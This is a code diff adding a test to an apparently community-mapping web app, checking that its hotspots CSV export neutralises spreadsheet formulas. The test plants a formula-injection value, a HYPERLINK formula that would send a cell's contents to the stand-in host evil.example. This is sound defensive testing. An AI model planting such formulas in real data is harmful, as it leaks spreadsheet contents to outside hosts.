@@ -49,6 +49,18 @@ class TestAreas:
         assert not any(row["n"] in html for row in analysed.run_read(
             "MATCH (p:Person) RETURN p.name AS n LIMIT 50")), "no individual on the page"
 
+    def test_csv_cells_a_spreadsheet_would_run_are_neutralised(self, client, sign_in,  # noqa: ANN001
+                                                                analysed: GraphStore) -> None:
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Powys")'
+        analysed.run_write("MATCH (a:Area {level: 'ward'}) WITH a LIMIT 1 SET a.name = $n",
+                           n=formula)
+        analysis.run_analysis(analysed)
+        sign_in("coordinator", "org-council")
+        text = client.get("/areas/hotspots.csv?level=ward").get_data(as_text=True)
+        names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
+        assert "'" + formula in names and formula not in names
+        assert all(not name.startswith(("=", "+", "-", "@")) for name in names)
+
     def test_asset_desert_map(self, client, sign_in, analysed: GraphStore) -> None:  # noqa: ANN001
         sign_in("coordinator")
         stored = analysis.hotspots(analysed, "small_area")
